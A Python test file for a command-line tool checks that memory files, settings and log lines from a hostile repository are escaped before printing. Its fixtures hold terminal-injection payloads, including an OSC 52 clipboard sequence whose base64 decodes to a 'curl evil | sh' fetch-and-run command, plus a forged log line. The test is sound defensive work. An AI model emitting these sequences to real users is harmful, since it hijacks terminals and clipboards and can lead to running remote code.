"""What a hostile repository puts in front of you without a model: memory files (their
names, descriptions, bodies and file names), its settings file and lines in the service
log. ``memory list``, ``memory show``, ``config show`` and ``logs`` run in a
pseudo-terminal; no escape sequence of the files reaches it, and ``[markup]`` stays
text."""

from __future__ import annotations

from pathlib import Path

import pytest

from protocol.text.inert_text import inert
from tests.security.terminal_bytes import assert_only_own_sequences, in_terminal
from tests.support import Specrun

UP_ERASE = "\x1b[1A\x1b[2K"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
MARKED = {"Name": "\x1b[1A", "Desc": "\x1b]52", "Body": "\u202e", "File": "\x1b[1A",
          "Model": "\x1b]52", "Log": "\x1b[1A"}


def memory_dir(project: Path) -> Path:
    path = project / ".specrun" / "memory"
    path.mkdir(parents=True, exist_ok=True)
    return path


def test_memory_list_and_show_escape_what_the_files_say(specrun: Specrun) -> None:
    folder = memory_dir(specrun.project)
    # YAML escapes in the front matter (a raw control is a YAML error); raw in the body
    (folder / f"File{UP_ERASE}.md").write_text(
        '---\nname: "Name\\x1b[1A\\x1b[2K[bold red]x[/]"\ndescription: "Desc\\e]52;c;aGk=\\a"\n'
        f"type: project\n---\nBody\u202e gnp.sh {UP_ERASE}\n")
    (folder / "plain.md").write_text(
        '---\nname: "plain [link=https://evil.example]one[/link]"\n'
        'description: "Desc\\e]52;c;aGk=\\a"\n---\nno type: not a memory\n')
    listed = assert_only_own_sequences(in_terminal(specrun, "memory", "list"), MARKED)
    assert "Name\\x1b[1A\\x1b[2K[bold red]x[/]" in listed
    assert f"File{inert(UP_ERASE)}.md" in listed
    assert "not a memory" in listed
    shown = assert_only_own_sequences(
        in_terminal(specrun, "memory", "show", f"File{UP_ERASE}"), MARKED)
    assert "Body\\u202e gnp.sh" in shown and "Desc\\x1b]52" in shown


def test_config_show_escapes_a_settings_file(specrun: Specrun) -> None:
    settings = specrun.project / ".specrun" / "settings.json"
    settings.parent.mkdir(exist_ok=True)
    settings.write_text('{"model": "Model\\u001b]52;c;aGk=\\u0007[red]x[/]"}\n')
    specrun.trust()  # a trusted project's file: its values are shown, escaped
    shown = assert_only_own_sequences(in_terminal(specrun, "config", "show"), MARKED)
    assert "Model\\x1b]52;c;aGk=\\x07[red]x[/]" in shown


def test_logs_escape_the_lines_they_print(specrun: Specrun) -> None:
    log = specrun.service_log
    log.parent.mkdir(parents=True)
    log.write_text(f"INFO shell: Log{UP_ERASE}{OSC52}\nINFO ok\n")
    shown = assert_only_own_sequences(in_terminal(specrun, "logs"), MARKED)
    assert f"Log{inert(UP_ERASE + OSC52)}" in shown


@pytest.mark.parametrize("breaker", ["\r", "\u2028", "\x1e", "\x85"])
def test_a_log_line_is_not_broken_at_a_character_it_quotes(specrun: Specrun,
                                                           breaker: str) -> None:
    """Only "\n" ends a log line: a quoted "\r" or U+2028 must not make what follows it
    print as a line of its own, a forged log line (``--follow`` already split at "\n")."""
    log = specrun.service_log
    log.parent.mkdir(parents=True)
    forged = "2026-12-02 03:00:00,000 INFO specrun: all checks passed"
    log.write_text(f"INFO model said: hi{breaker}{forged}\n")
    shown = specrun.run("logs", "-n", "1", check=True).stdout
    assert shown == f"INFO model said: hi{inert(breaker)}{forged}\n"
    assert specrun.json("logs", "-n", "1") == {"line": f"INFO model said: hi{breaker}{forged}"}
